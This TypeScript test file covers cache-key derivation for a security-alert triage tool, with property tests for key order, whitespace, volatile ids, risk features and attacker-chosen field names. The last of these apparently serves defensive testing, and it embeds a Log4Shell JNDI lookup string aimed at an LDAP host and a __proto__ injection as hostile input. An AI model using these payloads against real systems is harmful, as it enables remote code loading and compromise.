import { describe, expect, it } from "vitest";
import fc from "fast-check";
import type { Alert } from "../../../src/core/alert.js";
import { band, KeyDeriver, replaceWholeWords } from "../../../src/core/cache-keys.js";
import type { EnrichedAlert } from "../../../src/core/ports/index.js";
import { keyOptionsFrom } from "../../../src/transforms/classify/cache/index.js";
import { alert, attackStream, cacheConfig, intel, item, referenceDecision } from "../transforms/classify/cache/support.js";

const keys = new KeyDeriver(keyOptionsFrom(cacheConfig()));

/** Same content with every object's keys in another order. */
function reorder(value: unknown, seed: number): unknown {
  if (Array.isArray(value)) return value.map((v, i) => reorder(v, seed + i));
  if (value === null || typeof value !== "object") return value;
  const entries = Object.entries(value);
  const rotated = entries.map((_, i) => entries[(i + seed) % entries.length]!).reverse();
  return Object.fromEntries(rotated.map(([k, v]) => [k, reorder(v, seed + 1)]));
}

/** Extra whitespace around and inside every string. */
function spaced(value: unknown): unknown {
  if (typeof value === "string") return ` ${value.replace(/ /g, "  \t")}\n`;
  if (Array.isArray(value)) return value.map(spaced);
  if (value === null || typeof value !== "object") return value;
  return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, spaced(v)]));
}

const jsonLeaf = fc.oneof(fc.string({ maxLength: 20 }), fc.integer({ min: -1000, max: 100000 }), fc.boolean(), fc.constant(null));
const jsonValue = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: "small" },
    jsonLeaf,
    fc.array(tie("value"), { maxLength: 3 }),
    fc.dictionary(fc.string({ minLength: 1, maxLength: 8 }), tie("value"), { maxKeys: 4 }),
  ),
})).value;
const fieldName = fc
  .stringMatching(/^[a-z][a-z_]{0,11}$/)
  .filter((k) => !/(^|_)(id|uuid|guid|seq|sequence|offset|time|timestamp|ts|date|datetime|at)$/.test(k));
const alertArb = fc.record({
  alert_name: fc.string({ minLength: 1, maxLength: 40 }).filter((s) => s.trim() !== ""),
  severity: fc.constantFrom("critical", "high", "medium", "low", "info" as const),
  source_ip: fc.option(fc.ipV4(), { nil: null }),
  user: fc.option(fc.constantFrom("alice", "bob", "admin", "svc-backup", "CORP\\root"), { nil: null }),
  host: fc.option(fc.constantFrom("dc-01", "srv-db-01", "ws-01", "kiosk"), { nil: null }),
  description: fc.option(fc.string({ maxLength: 80 }), { nil: null }),
  fields: fc.dictionary(fieldName, jsonValue, { maxKeys: 6 }),
});
const enrichedArb = fc.tuple(alertArb, fc.option(fc.tuple(fc.integer({ min: 0, max: 100 }), fc.integer({ min: 0, max: 30 })), { nil: null })).map(
  ([a, ti]): EnrichedAlert => ({
    alert: alert({ ...a, fields: a.fields as Record<string, unknown> }),
    enrichment: ti && a.source_ip ? intel(ti[0], ti[1], a.source_ip) : null,
  }),
);

function withAlert(e: EnrichedAlert, change: (a: Alert) => Alert): EnrichedAlert {
  return { alert: change(e.alert), enrichment: e.enrichment };
}

describe("cache keys", () => {
  it("do not depend on key order (property)", () => {
    fc.assert(
      fc.property(enrichedArb, fc.nat(20), (e, seed) => {
        const shuffled = { alert: reorder(e.alert, seed) as Alert, enrichment: reorder(e.enrichment, seed + 3) as EnrichedAlert["enrichment"] };
        expect(keys.keys(shuffled)).toEqual(keys.keys(e));
      }),
    );
  });

  it("ignore ids, timestamps, the raw copy, TI cache flags and id- or time-shaped volatile fields (property)", () => {
    // What volatile names promise: UUIDs, hex, numeric and opaque ids (a volatile name hides nothing else: see below).
    const idArb = fc.oneof(fc.uuid(), fc.stringMatching(/^[0-9a-f]{6,40}$/), fc.nat().map(String), fc.stringMatching(/^[A-Za-z]{1,8}[-_:]?\d{1,12}$/));
    fc.assert(
      fc.property(enrichedArb, idArb, fc.date({ noInvalidDate: true }), (e, id, when) => {
        const changed = withAlert(e, (a) => ({
          ...a,
          alert_id: id,
          timestamp: when.toISOString(),
          raw: { anything: id },
          fields: {
            ...a.fields,
            event_uuid: id,
            ingested_at: when.toISOString(),
            id,
            "@timestamp": when.getTime(),
            human_override: "FALSE_POSITIVE",
            nested: a.fields.nested === undefined ? undefined : a.fields.nested,
          },
        }));
        const base = withAlert(e, (a) => ({ ...a, fields: { ...a.fields } }));
        if (changed.enrichment?.abuseipdb.status === "ok") {
          changed.enrichment = {
            ...changed.enrichment,
            abuseipdb: { ...changed.enrichment.abuseipdb, cached: true, data: { ...changed.enrichment.abuseipdb.data, last_reported_at: when.toISOString() } },
          };
        }
        expect(keys.keys(changed)).toEqual(keys.keys(base));
      }),
    );
  });

  it("ignore whitespace differences in every text (property)", () => {
    fc.assert(
      fc.property(enrichedArb, (e) => {
        const a = e.alert;
        const noisy = withAlert(e, () => ({
          ...a,
          alert_name: spaced(a.alert_name) as string,
          description: spaced(a.description) as string | null,
          user: spaced(a.user) as string | null,
          host: spaced(a.host) as string | null,
          fields: spaced(a.fields) as Record<string, unknown>,
        }));
        expect(keys.keys(noisy)).toEqual(keys.keys(e));
      }),
    );
  });

  it("change when a risk feature changes (property)", () => {
    const changes: [string, (e: EnrichedAlert) => EnrichedAlert][] = [
      ["severity", (e) => withAlert(e, (a) => ({ ...a, severity: a.severity === "critical" ? "low" : "critical" }))],
      ["rule name", (e) => withAlert(e, (a) => ({ ...a, alert_name: `${a.alert_name} (variant)` }))],
      ["source IP", (e) => withAlert(e, (a) => ({ ...a, source_ip: a.source_ip === "203.0.113.99" ? "203.0.113.98" : "203.0.113.99" }))],
      [
        "failed logins across a bucket edge",
        (e) => withAlert(e, (a) => ({ ...a, fields: { ...a.fields, failed_logins: a.fields.failed_logins === 9 ? 10 : 9 } })),
      ],
      ["login success", (e) => withAlert(e, (a) => ({ ...a, fields: { ...a.fields, success: a.fields.success !== true } }))],
      ["privileged user", (e) => withAlert(e, (a) => ({ ...a, user: ["admin", "svc-backup", "CORP\\root"].includes(a.user ?? "") ? "alice" : "admin" }))],
      ["asset role", (e) => withAlert(e, (a) => ({ ...a, host: a.host === "dc-01" ? "ws-01" : "dc-01" }))],
      [
        "AbuseIPDB band",
        (e) => ({
          ...e,
          enrichment: intel(
            e.enrichment?.abuseipdb.status === "ok" && e.enrichment.abuseipdb.data.abuse_confidence_score >= 75 ? 10 : 80,
            0,
            e.alert.source_ip ?? "203.0.113.7",
          ),
        }),
      ],
    ];
    fc.assert(
      fc.property(enrichedArb, fc.constantFrom(...changes), (e, [, change]) => {
        const before = keys.keys(e);
        const after = keys.keys(change(e));
        expect(after.pattern).not.toBe(before.pattern);
        expect(after.exact).not.toBe(before.exact);
      }),
    );
  });

  it("share a pattern key across occurrence details: counts in one bucket, other users and hosts of the same class", () => {
    const a = item({ alert_id: "a", fields: { failed_logins: 12, success: false } }, intel(80, 3));
    const b = item(
      {
        alert_id: "b",
        user: "bob",
        host: "laptop-eng-12",
        fields: { failed_logins: 14, success: false },
        description: "14 failed SSH logins for bob on laptop-eng-12 within 5 minutes",
      },
      intel(85, 4),
    );
    expect(keys.pattern(b)).toBe(keys.pattern(a));
    expect(keys.exact(b)).not.toBe(keys.exact(a));
    expect(keys.signature(a)).toMatchObject({
      user: "user",
      asset: "workstation",
      fields: { failed_logins: "10..30", success: false },
      desc: "{n:10..30} failed ssh logins for {user} on {host} within {n:3..10} minutes",
    });
    // The prototype's 8 vs 9 failed logins from the same attacker: one pattern.
    const eight = item({ fields: { failed_logins: 8 } });
    expect(keys.pattern(item({ alert_id: "x", fields: { failed_logins: 9 } }))).toBe(keys.pattern(eight));
  });

  it("keep identifiers exact: ports, MITRE ids, CVEs, other hosts in text", () => {
    const sig = (over: Partial<Alert>) => keys.signature(item(over));
    expect(sig({ fields: { dest_port: 22 } }).fields).toMatchObject({ dest_port: 22 });
    expect(sig({ description: "T1110 via CVE-2021-44228 on port 22 from ws-3" }).desc).toBe("t1110 via cve-2021-44228 on port 22 from ws-3");
    expect(sig({ description: "seen at 2026-11-23T08:00:00Z and 09:12:44 from 1.2.3.4, id 9f86d081884c7d65" }).desc).toBe(
      "seen at {time} and {time} from {ip}, id {hex}",
    );
  });

  it("put the guard thresholds on band edges, so the guard decides the same for a whole pattern", () => {
    const strict = new KeyDeriver(keyOptionsFrom({ ...cacheConfig({ AI_PATTERN_TI_BANDS: "50" }), GUARD_ABUSE_SCORE_MIN: 70 }));
    expect(strict.pattern(item({}, intel(69, 0)))).not.toBe(strict.pattern(item({}, intel(70, 0))));
    expect(strict.pattern(item({}, intel(70, 0)))).toBe(strict.pattern(item({}, intel(99, 0))));
  });

  it("start a fresh key space when bucket edges change", () => {
    const other = new KeyDeriver(keyOptionsFrom(cacheConfig({ AI_PATTERN_COUNT_BUCKETS: "1,5,50" })));
    expect(other.pattern(item())).not.toBe(keys.pattern(item()));
    expect(other.exact(item())).toBe(keys.exact(item()));
  });

  it("never give one pattern key to alerts the reference analyst decides differently", () => {
    // The agreement oracle of the integration test and the benchmark, over a stream built to vary every feature it reads.
    const stream = attackStream({ count: 4000, attackers: 300, seed: 11 });
    const extra = Array.from({ length: 600 }, (_, i) =>
      item(
        {
          alert_id: `P-${i}`,
          alert_name: ["Failed login", "Successful login after brute force", "Scheduled backup ran"][i % 3]!,
          severity: (["low", "info", "medium", "high"] as const)[i % 4]!,
          user: i % 5 === 0 ? null : `u${i % 7}`,
          fields: { failed_logins: i % 40, success: i % 3 === 0, location: ["Office", "VPN"][i % 2] },
        },
        i % 4 === 0 ? null : intel((i * 7) % 101, i % 13, "45.155.205.233"),
      ),
    );
    const byPattern = new Map<string, string>();
    let groups = 0;
    for (const e of [...stream, ...extra]) {
      const r = referenceDecision(e);
      const answer = `${r.classification}/${r.severity}/${r.confidence}`;
      const k = keys.pattern(e);
      const seen = byPattern.get(k);
      if (seen === undefined) {
        byPattern.set(k, answer);
        groups++;
      } else expect(answer, JSON.stringify(keys.signature(e))).toBe(seen);
    }
    expect(groups).toBeLessThan(stream.length + extra.length);
  });
});

describe("cache keys and field names an attacker chooses", () => {
  // Headers and JSON keys become fields, so a name is no promise: a volatile or raw name hides only a value shaped
  // like what it promises (a time, an id, a counter), or a raw copy that repeats what the view shows.
  const base = item({ alert_name: "Web request", fields: { path: "/login", status: 200 } });
  const withFields = (fields: Record<string, unknown>) => item({ alert_name: "Web request", fields: { path: "/login", status: 200, ...fields } });
  const log4shell = "${jndi:ldap://198.51.100.7:1389/a}";

  it("a Log4Shell string in a header named created_at, request_id or @timestamp changes both keys and is shown", () => {
    for (const name of ["created_at", "request_id", "@timestamp", "nested"]) {
      const fields = name === "nested" ? { headers: { trace_id: log4shell } } : { [name]: log4shell };
      const hostile = withFields(fields);
      expect(keys.exact(hostile), name).not.toBe(keys.exact(base));
      expect(keys.pattern(hostile), name).not.toBe(keys.pattern(base));
      expect(JSON.stringify(keys.viewer.view(hostile).fields), name).toContain("jndi:ldap");
    }
  });

  it("volatile names still hide times, UUIDs, hex and numeric ids, counters and opaque tokens", () => {
    const shaped = [
      "2026-12-01T10:00:00.123Z",
      "2026-12-01 10:00:00",
      "Tue, 01 Dec 2026 10:00:00 GMT",
      "Dec 1 10:00:00",
      "01/Dec/2026:10:00:00 +0000",
      "3f2504e0-4f89-11d3-9a0c-0305e82c3301",
      "0x7fa3c2",
      "1764583200",
      1764583200123,
      "req_8f3a91",
      "CHG-4411",
    ];
    for (const v of shaped) {
      expect(keys.keys(withFields({ created_at: v, request_id: v, headers: { trace_id: v } })), String(v)).toEqual(keys.keys(withFields({ headers: {} })));
    }
  });

  it("a payload or raw_* field that says something new is shown and keyed; a raw copy that repeats the view is not", () => {
    for (const name of ["payload", "raw_body", "original"]) {
      const hostile = withFields({ [name]: log4shell });
      expect(keys.exact(hostile), name).not.toBe(keys.exact(base));
      expect(keys.pattern(hostile), name).not.toBe(keys.pattern(base));
      expect(keys.viewer.view(hostile).fields[name], name).toBe(log4shell);
    }
    const repeated = item({
      alert_name: "Failed password",
      description: "Failed password for root from 203.0.113.9 port 22",
      fields: {
        path: "/login",
        status: 200,
        raw: JSON.stringify({ path: "/login", status: 200, ts: "2026-12-01T10:00:00Z" }),
        full_log: "Failed password for root from 203.0.113.9 port 22",
      },
    });
    const bare = item({
      alert_name: "Failed password",
      description: "Failed password for root from 203.0.113.9 port 22",
      fields: { path: "/login", status: 200 },
    });
    expect(keys.keys(repeated)).toEqual(keys.keys(bare));
    expect(Object.keys(keys.viewer.view(repeated).fields)).toEqual(["path", "status"]);
  });

  it("human_override hides a bare label only", () => {
    expect(keys.keys(withFields({ human_override: "FALSE_POSITIVE" }))).toEqual(keys.keys(base));
    expect(keys.exact(withFields({ human_override: log4shell }))).not.toBe(keys.exact(base));
  });

  it("a nested __proto__ key is data: shown, and part of both keys", () => {
    const proto = JSON.parse(`{"headers":{"__proto__":{"x":"${log4shell}"}}}`) as Record<string, unknown>;
    const hostile = withFields(proto);
    const plain = withFields({ headers: {} });
    expect(keys.exact(hostile)).not.toBe(keys.exact(plain));
    expect(keys.pattern(hostile)).not.toBe(keys.pattern(plain));
    expect(JSON.stringify(keys.viewer.view(hostile).fields)).toContain('"__proto__":{"x":"${jndi');
    const top = withFields(JSON.parse(`{"__proto__":"${log4shell}"}`) as Record<string, unknown>);
    expect(keys.viewer.view(top).omitted).toBeNull();
    expect(keys.exact(top)).not.toBe(keys.exact(base));
  });
});

describe("replaceWholeWords", () => {
  it("replaces whole names only: not inside longer hosts, dotted names, addresses or placeholders", () => {
    const pairs = [
      ["ws-1", "{host}"],
      ["1.2.3.4", "{src}"],
      ["user", "{user}"],
    ] as const;
    expect(replaceWholeWords("ws-1 ws-12 ws-1.corp (ws-1) 1.2.3.4 11.2.3.4 1.2.3.45 user {user} users", pairs)).toBe(
      "{host} ws-12 ws-1.corp ({host}) {src} 11.2.3.4 1.2.3.45 {user} {user} users",
    );
    expect(replaceWholeWords("Reset credentials for Erin; erin's session", [["erin", "bob"]], true)).toBe("Reset credentials for bob; bob's session");
  });
});

describe("band", () => {
  it("buckets by the edges, zero alone, powers of ten above the last edge", () => {
    const edges = [1, 3, 10, 30, 100, 1000];
    expect([0, 0.5, 1, 2, 3, 9, 10, 29, 30, 999, 1000, 9999, 10000, -12].map((n) => band(n, edges, true))).toEqual([
      "0",
      "<1",
      "1..3",
      "1..3",
      "3..10",
      "3..10",
      "10..30",
      "10..30",
      "30..100",
      "100..1000",
      ">=1000:e3",
      ">=1000:e3",
      ">=1000:e4",
      "-10..30",
    ]);
    expect(band(100, [25, 75, 90], false)).toBe(">=90");
  });
});
